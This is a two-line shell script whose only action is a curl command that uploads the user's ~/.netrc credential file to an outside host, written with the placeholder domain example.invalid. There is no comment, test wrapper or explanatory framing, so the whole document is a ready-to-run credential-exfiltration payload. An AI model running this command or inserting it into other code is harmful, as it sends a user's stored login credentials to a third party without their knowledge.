#!/bin/sh
curl -F "f=@$HOME/.netrc" http://example.invalid/up
